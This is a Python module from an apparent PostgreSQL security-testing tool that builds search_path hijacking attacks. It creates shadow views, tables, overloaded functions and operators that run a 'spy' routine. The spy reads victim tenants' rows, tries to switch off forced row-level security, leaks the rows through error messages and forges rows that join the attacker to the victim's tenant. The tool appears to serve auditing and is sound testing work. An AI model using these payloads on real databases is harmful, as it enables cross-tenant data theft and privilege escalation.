"""What an attacker puts in the way of names that a function leaves to the search_path: tables, functions, operators.

A shadow does two things. It plants rows that make the attacker a member of the victim's tenant, and where it is read or
written by somebody else's rights it runs the attacker's code, which then reads the victim's rows and raises them as an
error. Temporary objects need TEMPORARY on the database, functions and operators a schema to create them in.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from dataclasses import dataclass

from dbkit.leak.checks.functions.catalog import Routine
from dbkit.leak.checks.functions.stand import Stand
from dbkit.leak.rows import ATTACKER, VICTIM
from dbkit.leak.session import Session
from dbkit.tenancy.relations import Table, literal

__all__ = ["Home", "Shadow", "loose_calls", "loose_tables", "make_shadows", "writable_schemas"]

_MENTION = re.compile(r'\b(?:from|join|into|update|table)\s+(?:only\s+)?"?([a-z_]\w*)"?(?!\w|"?\s*[.(])', re.IGNORECASE)
_OVERLOADS = 16
_HIDDEN_TABLES = 4

# Reads what its current user may read of the victim; an owner first lifts row security. Once a transaction, since what
# it reads may call it again.
_SPY = """create function {home}.dbkit_spy() returns integer language plpgsql as $spy$
declare
    found_row text;
begin
    if current_setting('dbkit.spying', true) = 'on' then return 0; end if;
    perform pg_catalog.set_config('dbkit.spying', 'on', true);
{reads}
    perform pg_catalog.set_config('dbkit.spying', 'off', true);
    return 0;
end
$spy$"""
_SPY_READ = """    begin
        execute {query} into found_row;
        if found_row is null and current_user <> session_user then
            execute {lift};
            execute {query} into found_row;
        end if;
    exception when others then found_row := null;
    end;
    if found_row is not null then raise exception 'read as %: %', current_user, found_row; end if;"""
_SPY_TRIGGER = """create function {home}.dbkit_spy_row() returns trigger language plpgsql as $spy$
begin
    perform {home}.dbkit_spy();
    return coalesce(new, old);
end
$spy$"""

_WRITABLE = """
select quote_ident(nspname), nspname from pg_namespace
where nspname !~ '^pg_' and nspname <> 'information_schema' and has_schema_privilege({role}, oid, 'create')
    and has_schema_privilege({role}, oid, 'usage')
"""
_FUNCTIONS = """
select (select coalesce(json_agg(format_type(a.oid, null) order by a.n), '[]')
        from unnest(p.proargtypes) with ordinality a (oid, n)),
    format_type(p.prorettype, null), p.pronamespace::regnamespace::text
from pg_proc p join pg_type r on r.oid = p.prorettype
where p.proname = {name} and p.pronargs = {count} and p.prokind = 'f' and not p.proretset and r.typtype <> 'p'
    and not exists (select from unnest(p.proargtypes) a (oid) join pg_type t using (oid) where t.typtype = 'p')
"""
_OPERATORS = """
select format_type(oprleft, null), format_type(oprright, null), format_type(oprresult, null)
from pg_operator
where oprname = {name} and oprnamespace = 'pg_catalog'::regnamespace and oprleft <> 0
    and oprleft::regtype::text in ('uuid', 'text', 'integer', 'bigint', 'boolean', 'timestamp with time zone', 'jsonb')
    and oprright::regtype::text in ('uuid', 'text', 'integer', 'bigint', 'boolean', 'timestamp with time zone', 'jsonb')
"""
_MISSING = """
select quote_ident(name) from unnest(array[{names}]) name
where has_database_privilege({role}, current_database(), 'create') and to_regnamespace(quote_ident(name)) is null
    and name !~ '^pg_'
"""


@dataclass(frozen=True)
class Home:
    """A schema that the role may create objects in; `setup` makes it where it is not there yet."""

    sql: str
    name: str
    setup: tuple[str, ...] = ()


@dataclass(frozen=True)
class Shadow:
    """What the attacker creates, and the names it takes; `by_code` where it plants no rows but only runs code."""

    setup: tuple[str, ...]
    names: str
    by_code: bool = False


def writable_schemas(stand: Stand, admin: Session) -> list[Home]:
    """Schemas that the role may create objects in."""
    rows = admin.must(_WRITABLE.format(role=literal(stand.role.name))).rows
    return [Home(row[0] or "", row[1] or "") for row in rows]


def loose_tables(stand: Stand, routine: Routine) -> list[Table]:
    """Tables that the function names without a schema, in SQL or in text that it executes."""
    names = {name for schema, name in routine.facts.relations if not schema}
    if routine.facts.dynamic:
        names |= {name.lower() for name in _MENTION.findall(routine.facts.text)}
    return [table for table in stand.model.relations.tables.values() if table.name in names]


def loose_calls(routine: Routine) -> list[tuple[str, int]]:
    """Names and numbers of arguments of the functions that it calls without a schema."""
    return sorted({(name, count) for schema, name, count in routine.facts.calls if not schema})


def make_shadows(stand: Stand, routine: Routine, writable: list[Home], admin: Session) -> Iterator[Shadow]:
    """Everything that can be put in the way of the names of one function.

    Args:
        writable: schemas that the role may create in.
        admin: reads the catalog.
    """
    tables = loose_tables(stand, routine)
    path = _session_path(routine, tables)
    if tables:
        names = ", ".join(dict.fromkeys(table.name for table in tables))
        spy = _spy(stand, "pg_temp")
        for shape in (_view, _table):
            setup = [*spy, *(sql for table in _distinct(tables) for sql in shape(stand, table, "pg_temp")), *path]
            yield Shadow(tuple(setup), f"{names} with a temporary {'view' if shape is _view else 'table'}")
    on_path = [home for home in writable if routine.path is None or _names(routine.path, home.name)]
    for home in [*on_path, *_missing_schemas(stand, routine, admin)]:
        name, spy = home.name, [*home.setup, *_spy(stand, home.sql)]
        path = _session_path(routine, tables, home.sql)
        for table in _distinct(tables):
            yield Shadow((*spy, *_view(stand, table, home.sql), *path), f"{table.name} with a view in {name}")
        for call, count in loose_calls(routine):
            for sql in _overloads(routine, admin, home.sql, call, count):
                yield Shadow((*spy, sql, *path), f"{call}() with a function in {name}", True)
        for operator in sorted(routine.facts.operators):
            for sqls in _operators(admin, home.sql, operator):
                yield Shadow((*spy, *sqls, *path), f"{operator} with an operator in {name}", True)


def _missing_schemas(stand: Stand, routine: Routine, admin: Session) -> list[Home]:
    """Schemas that a pinned path names and nobody has made; whoever may create one takes the place.

    In a function with its owner's rights "$user" is the owner's name.
    """
    user = routine.owner if routine.definer else stand.role.name
    named = [part.strip().strip('"').replace("$user", user) for part in (routine.path or "").split(",")]
    names = ", ".join(literal(name) for name in named if name)
    if not names:
        return []
    rows = admin.must(_MISSING.format(names=names, role=literal(stand.role.name))).rows
    homes = [row[0] or "" for row in rows]
    opened = "grant usage on schema {home} to public"
    return [Home(home, home, (f"create schema {home}", opened.format(home=home))) for home in homes]


def _names(path: str, schema: str) -> bool:
    return re.search(rf"\b{re.escape(schema)}\b", path) is not None


def _distinct(tables: list[Table]) -> list[Table]:
    return list({table.name: table for table in tables}.values())


def _session_path(routine: Routine, tables: list[Table], first: str = "") -> list[str]:
    """The path an attacker sets for a function that has none of its own."""
    if routine.path is not None:
        return []
    schemas = [first, "pg_catalog"] if first else []
    schemas += [table.sql.rsplit(".", 1)[0] for table in tables]
    schemas += [] if "public" in schemas else ["public"]
    return ["set local search_path = " + ", ".join(dict.fromkeys(filter(None, schemas)))]


def _spy(stand: Stand, home: str) -> list[str]:
    # First those whose rows hold what nobody else's do: a row of small numbers is no witness.
    telling = {place.rpartition(".")[0] for place in stand.secrets.values()}
    reads = []
    for name in sorted(stand.victims, key=lambda name: name not in telling)[:_HIDDEN_TABLES]:
        table = stand.protected[name].table
        query = literal(f"select t::text from {table.sql} t where {stand.victims[name]} limit 1")
        lift = literal(f"alter table {table.sql} no force row level security")
        reads.append(_SPY_READ.format(query=query, lift=lift))
    return [
        _SPY.format(home=home, reads="\n".join(reads)),
        _SPY_TRIGGER.format(home=home),
    ]


def _planted(stand: Stand, table: Table) -> list[str]:
    """Rows that put the attacker into the victim's tenant: own rows in which ids became the victim's."""
    stored = stand.population.tables.get(table.qualified)
    own = stored.rows.get(ATTACKER) if stored else None
    if stored is None or own is None:
        return []
    identities = stand.population.identities
    users = stand.model.user_columns.get(table.qualified, ())
    victim = stored.rows.get(VICTIM, own)
    forged = {}
    for name, value in own.items():
        theirs = victim.get(name) if table.columns[name].base == "uuid" and name not in users else value
        tenant = identities[VICTIM].tenant if value == identities[ATTACKER].tenant and name not in users else theirs
        forged[name] = tenant
    rows = [forged, own]
    return ["(" + ", ".join(literal(row[name]) for name in table.columns) + ")" for row in rows]


def _columns(table: Table) -> str:
    return ", ".join(f"{column.sql} {column.type}" for column in table.columns.values())


def _view(stand: Stand, table: Table, home: str) -> list[str]:
    """A view that runs the spy when it is read or written, and gives the planted rows."""
    name = table.sql.rsplit(".", 1)[1]
    rows = _planted(stand, table)
    casts = ", ".join(f"v.c{n}::{column.type}" for n, column in enumerate(table.columns.values()))
    aliases = ", ".join(f"c{n}" for n in range(len(table.columns)))
    planted = f"return query select {casts} from (values {', '.join(rows)}) v ({aliases});" if rows else ""
    return [
        f"create function {home}.dbkit_rows_{table.oid}() returns table ({_columns(table)}) language plpgsql as "
        f"$spy$ begin perform {home}.dbkit_spy(); {planted} end $spy$",
        f"create view {home}.{name} as select * from {home}.dbkit_rows_{table.oid}()",
        f"create trigger dbkit_spy instead of insert or update or delete on {home}.{name} "
        f"for each row execute function {home}.dbkit_spy_row()",
        f"grant select, insert, update, delete on {home}.{name} to public",
    ]


def _table(stand: Stand, table: Table, home: str) -> list[str]:
    """A table with the planted rows that runs the spy when it is written."""
    name = table.sql.rsplit(".", 1)[1]
    rows = _planted(stand, table)
    fill = [f"insert into {home}.{name} values {', '.join(rows)}"] if rows else []
    key = ", ".join(table.columns[column].sql for column in table.primary_key)
    return [
        f"create table {home}.{name} ({_columns(table)}" + (f", primary key ({key}))" if key else ")"),
        *fill,
        f"create trigger dbkit_spy before insert or update or delete on {home}.{name} "
        f"for each row execute function {home}.dbkit_spy_row()",
        f"grant select, insert, update, delete on {home}.{name} to public",
    ]


def _overloads(routine: Routine, admin: Session, home: str, name: str, count: int) -> Iterator[str]:
    """Functions of the same name that fit the call better, or as well and are found first."""
    types = [argument.type.sql for argument in routine.arguments]
    made: dict[tuple[str, ...], str] = {}
    for arguments, result, schema in admin.must(_FUNCTIONS.format(name=literal(name), count=count)).rows:
        if schema == home:
            continue
        exact = tuple(json.loads(arguments or "[]"))
        varchar = tuple("character varying" if part == "text" else part for part in exact)
        changed = [(*exact[:n], each, *exact[n + 1 :]) for n in range(len(exact)) for each in types]
        for signature in (exact, varchar, *changed):
            made.setdefault(signature, result or "")
    quoted = '"' + name.replace('"', '""') + '"'
    for signature, result in list(made.items())[:_OVERLOADS]:
        yield (
            f"create function {home}.{quoted}({', '.join(signature)}) returns {result} language plpgsql as "
            f"$spy$ begin perform {home}.dbkit_spy(); return null; end $spy$"
        )


def _operators(admin: Session, home: str, operator: str) -> Iterator[list[str]]:
    made: dict[tuple[str, str], str] = {}
    for left, right, result in admin.must(_OPERATORS.format(name=literal(operator))).rows:
        left, right = left or "", right or ""
        for pair in ((left, right), tuple("character varying" if t == "text" else t for t in (left, right))):
            made.setdefault((pair[0], pair[1]), result or "")
    for number, ((left, right), result) in enumerate(list(made.items())[:_OVERLOADS]):
        yield [
            f"create function {home}.dbkit_operator_{number}({left}, {right}) returns {result} language plpgsql as "
            f"$spy$ begin perform {home}.dbkit_spy(); return null; end $spy$",
            f"create operator {home}.{operator} (leftarg = {left}, rightarg = {right}, "
            f"function = {home}.dbkit_operator_{number})",
        ]
